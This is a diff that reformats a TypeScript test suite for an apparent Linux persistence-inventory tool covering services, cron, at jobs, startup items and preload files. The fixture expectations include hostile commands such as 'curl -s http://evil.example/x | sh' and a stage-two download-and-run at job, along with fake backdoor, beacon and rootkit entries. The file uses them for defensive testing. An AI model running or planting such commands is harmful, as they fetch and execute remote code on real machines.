@@ -20,7 +20,10 @@ beforeAll(() => {
 });
 afterAll(() => fixture.cleanup());
 
-const sha256 = (rel: string): string => createHash('sha256').update(readFileSync(path.join(fixture.dir, rel))).digest('hex');
+const sha256 = (rel: string): string =>
+  createHash('sha256')
+    .update(readFileSync(path.join(fixture.dir, rel)))
+    .digest('hex');
 
 describe('listServices', () => {
   it('reads systemd units with precedence, drop-ins and enablement', async () => {
@@ -36,15 +39,27 @@ describe('listServices', () => {
       execStart: '/usr/local/bin/evil --override',
       description: 'Totally legit service',
     });
-    expect(by.get('ssh.service')).toMatchObject({ enabled: 'disabled', unitPath: '/lib/systemd/system/ssh.service', execStart: '/usr/sbin/sshd -D $SSHD_OPTS' });
+    expect(by.get('ssh.service')).toMatchObject({
+      enabled: 'disabled',
+      unitPath: '/lib/systemd/system/ssh.service',
+      execStart: '/usr/sbin/sshd -D $SSHD_OPTS',
+    });
     expect(by.get('systemd-static.service')?.enabled).toBe('static');
     // /etc wins over /lib: the admin's /dev/null link masks the vendor unit
-    expect(by.get('masked.service')).toMatchObject({ enabled: 'masked', unitPath: '/etc/systemd/system/masked.service', execStart: null });
+    expect(by.get('masked.service')).toMatchObject({
+      enabled: 'masked',
+      unitPath: '/etc/systemd/system/masked.service',
+      execStart: null,
+    });
   });
 
   it('lists SysV init scripts with their runlevel links', async () => {
     const services = await platform.listServices();
-    expect(services.find((s) => s.kind === 'sysv' && s.name === 'legacy')).toMatchObject({ enabled: 'enabled', unitPath: '/etc/init.d/legacy', description: 'Legacy daemon' });
+    expect(services.find((s) => s.kind === 'sysv' && s.name === 'legacy')).toMatchObject({
+      enabled: 'enabled',
+      unitPath: '/etc/init.d/legacy',
+      description: 'Legacy daemon',
+    });
     expect(services.some((s) => s.name === 'README')).toBe(false);
   });
 
@@ -83,31 +98,97 @@ describe('systemdRuntime', () => {
 describe('listScheduledTasks', () => {
   it('reads system, cron.d and per-user crontabs with line numbers', async () => {
     const cron = (await platform.listScheduledTasks()).filter((t) => t.kind === 'cron');
-    expect(cron).toContainEqual({ kind: 'cron', source: '/etc/crontab', user: 'root', schedule: '@reboot', command: '/opt/evil/boot.sh', line: 6 });
-    expect(cron).toContainEqual({ kind: 'cron', source: '/etc/cron.d/x', user: 'www-data', schedule: '*/5 * * * *', command: 'curl -s http://evil.example/x | sh', line: 3 });
-    expect(cron).toContainEqual({ kind: 'cron', source: '/var/spool/cron/crontabs/alice', user: 'alice', schedule: '0 3 * * 1', command: '/home/alice/backup.sh --full', line: 3 });
-    expect(cron).toContainEqual({ kind: 'cron', source: '/etc/cron.daily/logrotate', user: 'root', schedule: 'daily', command: '/etc/cron.daily/logrotate', line: null });
-    expect(cron.some((t) => t.source.endsWith('.placeholder') || t.command.startsWith('SHELL') || t.command.startsWith('MAILTO'))).toBe(false);
+    expect(cron).toContainEqual({
+      kind: 'cron',
+      source: '/etc/crontab',
+      user: 'root',
+      schedule: '@reboot',
+      command: '/opt/evil/boot.sh',
+      line: 6,
+    });
+    expect(cron).toContainEqual({
+      kind: 'cron',
+      source: '/etc/cron.d/x',
+      user: 'www-data',
+      schedule: '*/5 * * * *',
+      command: 'curl -s http://evil.example/x | sh',
+      line: 3,
+    });
+    expect(cron).toContainEqual({
+      kind: 'cron',
+      source: '/var/spool/cron/crontabs/alice',
+      user: 'alice',
+      schedule: '0 3 * * 1',
+      command: '/home/alice/backup.sh --full',
+      line: 3,
+    });
+    expect(cron).toContainEqual({
+      kind: 'cron',
+      source: '/etc/cron.daily/logrotate',
+      user: 'root',
+      schedule: 'daily',
+      command: '/etc/cron.daily/logrotate',
+      line: null,
+    });
+    expect(
+      cron.some(
+        (t) => t.source.endsWith('.placeholder') || t.command.startsWith('SHELL') || t.command.startsWith('MAILTO'),
+      ),
+    ).toBe(false);
   });
 
   it('reads systemd timers with the command of the unit they start', async () => {
     const timers = (await platform.listScheduledTasks()).filter((t) => t.kind === 'systemd-timer');
-    expect(timers).toContainEqual({ kind: 'systemd-timer', source: '/etc/systemd/system/backdoor.timer', user: 'alice', schedule: 'OnBootSec=5min; OnUnitActiveSec=1h', command: '/home/alice/.local/bin/beacon', line: null });
-    expect(timers).toContainEqual({ kind: 'systemd-timer', source: '/lib/systemd/system/apt-daily.timer', user: 'root', schedule: 'OnCalendar=*-*-* 6,18:00', command: '/usr/lib/apt/apt.systemd.daily update', line: null });
+    expect(timers).toContainEqual({
+      kind: 'systemd-timer',
+      source: '/etc/systemd/system/backdoor.timer',
+      user: 'alice',
+      schedule: 'OnBootSec=5min; OnUnitActiveSec=1h',
+      command: '/home/alice/.local/bin/beacon',
+      line: null,
+    });
+    expect(timers).toContainEqual({
+      kind: 'systemd-timer',
+      source: '/lib/systemd/system/apt-daily.timer',
+      user: 'root',
+      schedule: 'OnCalendar=*-*-* 6,18:00',
+      command: '/usr/lib/apt/apt.systemd.daily update',
+      line: null,
+    });
   });
 
   it('reads pending at jobs', async () => {
     const at = (await platform.listScheduledTasks()).filter((t) => t.kind === 'at');
-    expect(at).toEqual([{ kind: 'at', source: `/var/spool/cron/atjobs/${atJobName(AT_RUN_AT)}`, user: 'alice', schedule: AT_RUN_AT.toISOString(), command: 'curl -s http://evil.example/stage2 -o /tmp/s2; sh /tmp/s2', line: null }]);
+    expect(at).toEqual([
+      {
+        kind: 'at',
+        source: `/var/spool/cron/atjobs/${atJobName(AT_RUN_AT)}`,
+        user: 'alice',
+        schedule: AT_RUN_AT.toISOString(),
+        command: 'curl -s http://evil.example/stage2 -o /tmp/s2; sh /tmp/s2',
+        line: null,
+      },
+    ]);
   });
 });
 
 describe('listStartupItems', () => {
   it('lists XDG autostart (system and per user), rc.local and profile.d', async () => {
     const items = await platform.listStartupItems();
-    expect(items.find((i) => i.path === '/etc/xdg/autostart/x.desktop')).toMatchObject({ kind: 'xdg-autostart', name: 'X Helper', exec: '/usr/bin/x-helper --tray', owner: 'root' });
-    expect(items.find((i) => i.path === '/home/alice/.config/autostart/updater.desktop')).toMatchObject({ name: 'Updater (disabled)', exec: '/home/alice/.local/bin/upd' });
-    expect(items.find((i) => i.kind === 'rc.local')).toMatchObject({ path: '/etc/rc.local', exec: '/opt/evil/start &' });
+    expect(items.find((i) => i.path === '/etc/xdg/autostart/x.desktop')).toMatchObject({
+      kind: 'xdg-autostart',
+      name: 'X Helper',
+      exec: '/usr/bin/x-helper --tray',
+      owner: 'root',
+    });
+    expect(items.find((i) => i.path === '/home/alice/.config/autostart/updater.desktop')).toMatchObject({
+      name: 'Updater (disabled)',
+      exec: '/home/alice/.local/bin/upd',
+    });
+    expect(items.find((i) => i.kind === 'rc.local')).toMatchObject({
+      path: '/etc/rc.local',
+      exec: '/opt/evil/start &',
+    });
     expect(items.filter((i) => i.kind === 'profile.d').map((i) => i.name)).toEqual(['evil.sh', 'huge.sh', 'link.sh']);
     for (const i of items) expect(Number.isNaN(Date.parse(i.mtime))).toBe(false);
   });
@@ -138,15 +219,27 @@ describe('listPersistence', () => {
       sha256: sha256('etc/ld.so.preload'),
       detail: 'preloads /lib/x86_64-linux-gnu/libevil.so',
     });
-    expect(at('/home/alice/.ssh/authorized_keys')).toMatchObject({ category: 'authorized_keys', detail: '2 keys (1 with a forced command)', sha256: sha256('home/alice/.ssh/authorized_keys') });
+    expect(at('/home/alice/.ssh/authorized_keys')).toMatchObject({
+      category: 'authorized_keys',
+      detail: '2 keys (1 with a forced command)',
+      sha256: sha256('home/alice/.ssh/authorized_keys'),
+    });
     expect(at('/var/www/.ssh/authorized_keys')?.detail).toBe('1 key');
     expect(at('/etc/ssh/keys/alice')?.category).toBe('authorized_keys'); // from sshd_config's AuthorizedKeysFile
     expect(at('/etc/crontab')).toMatchObject({ category: 'cron', detail: '2 cron lines' });
     expect(at('/var/spool/cron/crontabs/alice')).toMatchObject({ category: 'cron', detail: '1 cron line' });
-    expect(at('/etc/systemd/system/evil.service')).toMatchObject({ category: 'systemd', detail: 'ExecStart=/usr/local/bin/evil --daemon' });
-    expect(at('/etc/systemd/system/evil.service.d/override.conf')?.detail).toBe('ExecStart=/usr/local/bin/evil --override');
+    expect(at('/etc/systemd/system/evil.service')).toMatchObject({
+      category: 'systemd',
+      detail: 'ExecStart=/usr/local/bin/evil --daemon',
+    });
+    expect(at('/etc/systemd/system/evil.service.d/override.conf')?.detail).toBe(
+      'ExecStart=/usr/local/bin/evil --override',
+    );
     expect(at('/home/alice/.config/systemd/user/miner.service')?.category).toBe('systemd');
-    expect(at('/etc/systemd/system/backdoor.timer')).toMatchObject({ category: 'systemd-timer', detail: 'OnBootSec=5min; OnUnitActiveSec=1h' });
+    expect(at('/etc/systemd/system/backdoor.timer')).toMatchObject({
+      category: 'systemd-timer',
+      detail: 'OnBootSec=5min; OnUnitActiveSec=1h',
+    });
     expect(at('/lib/systemd/system/apt-daily.timer')?.category).toBe('systemd-timer');
     expect(at('/etc/init.d/legacy')).toMatchObject({ category: 'init', mode: '-rwxr-xr-x' });
     expect(at('/etc/rc.local')).toMatchObject({ category: 'init', detail: '/opt/evil/start &' });
@@ -156,7 +249,10 @@ describe('listPersistence', () => {
     expect(at('/etc/udev/rules.d/99-evil.rules')?.detail).toBe('1 rule; runs /opt/evil/udev.sh');
     expect(at('/etc/modules-load.d/evil.conf')?.detail).toBe('loads rootkit');
     expect(at('/etc/modules')?.category).toBe('modules-load');
-    expect(at('/etc/xdg/autostart/x.desktop')).toMatchObject({ category: 'xdg-autostart', detail: 'Exec=/usr/bin/x-helper --tray' });
+    expect(at('/etc/xdg/autostart/x.desktop')).toMatchObject({
+      category: 'xdg-autostart',
+      detail: 'Exec=/usr/bin/x-helper --tray',
+    });
     expect(at(`/var/spool/cron/atjobs/${atJobName(AT_RUN_AT)}`)?.category).toBe('at');
   });
 
@@ -167,14 +263,31 @@ describe('listPersistence', () => {
   });
 
   it('follows symlinks inside the sysroot only, and reports masks', () => {
-    expect(at('/etc/profile.d/link.sh')).toMatchObject({ mode: 'lrwxrwxrwx', sha256: sha256('etc/passwd'), detail: 'symlink to /etc/passwd; 5 lines' });
-    expect(at('/etc/systemd/system/multi-user.target.wants/evil.service')?.sha256).toBe(sha256('etc/systemd/system/evil.service'));
-    expect(at('/etc/systemd/system/masked.service')).toMatchObject({ sha256: null, detail: 'symlink to /dev/null (masked)' });
+    expect(at('/etc/profile.d/link.sh')).toMatchObject({
+      mode: 'lrwxrwxrwx',
+      sha256: sha256('etc/passwd'),
+      detail: 'symlink to /etc/passwd; 5 lines',
+    });
+    expect(at('/etc/systemd/system/multi-user.target.wants/evil.service')?.sha256).toBe(
+      sha256('etc/systemd/system/evil.service'),
+    );
+    expect(at('/etc/systemd/system/masked.service')).toMatchObject({
+      sha256: null,
+      detail: 'symlink to /dev/null (masked)',
+    });
   });
 
   it('never opens a FIFO and does not hash files above 64 MiB', () => {
-    expect(at('/home/alice/.zshrc')).toMatchObject({ mode: 'prw-r--r--', sha256: null, detail: 'not a regular file (fifo)' });
-    expect(at('/etc/profile.d/huge.sh')).toMatchObject({ size: 65 * 1024 * 1024, sha256: null, detail: '68157440 bytes: larger than 64 MiB, not hashed' });
+    expect(at('/home/alice/.zshrc')).toMatchObject({
+      mode: 'prw-r--r--',
+      sha256: null,
+      detail: 'not a regular file (fifo)',
+    });
+    expect(at('/etc/profile.d/huge.sh')).toMatchObject({
+      size: 65 * 1024 * 1024,
+      sha256: null,
+      detail: '68157440 bytes: larger than 64 MiB, not hashed',
+    });
   });
 });
 
@@ -184,16 +297,18 @@ describe('Sysroot', () => {
     expect(await root.resolve('/etc/profile.d/link.sh')).toBe('/etc/passwd');
     expect(await root.resolve('/etc/rc2.d/S01legacy')).toBe('/etc/init.d/legacy');
     expect(root.device(path.join(fixture.dir, 'etc/passwd'))).toBe('/etc/passwd');
-    expect((await root.homes()).map((h) => h.path)).toEqual(expect.arrayContaining(['/root', '/home/alice', '/var/www']));
+    expect((await root.homes()).map((h) => h.path)).toEqual(
+      expect.arrayContaining(['/root', '/home/alice', '/var/www']),
+    );
   });
 
   it('expands AuthorizedKeysFile tokens', () => {
-    expect(authorizedKeysPaths(['.ssh/authorized_keys %h/.ssh/k2 /etc/ssh/keys/%u /k/%U %%x none'], { user: 'bob', path: '/home/bob' }, 1002)).toEqual([
-      '/home/bob/.ssh/authorized_keys',
-      '/home/bob/.ssh/k2',
-      '/etc/ssh/keys/bob',
-      '/k/1002',
-      '/home/bob/%x',
-    ]);
+    expect(
+      authorizedKeysPaths(
+        ['.ssh/authorized_keys %h/.ssh/k2 /etc/ssh/keys/%u /k/%U %%x none'],
+        { user: 'bob', path: '/home/bob' },
+        1002,
+      ),
+    ).toEqual(['/home/bob/.ssh/authorized_keys', '/home/bob/.ssh/k2', '/etc/ssh/keys/bob', '/k/1002', '/home/bob/%x']);
   });
 });
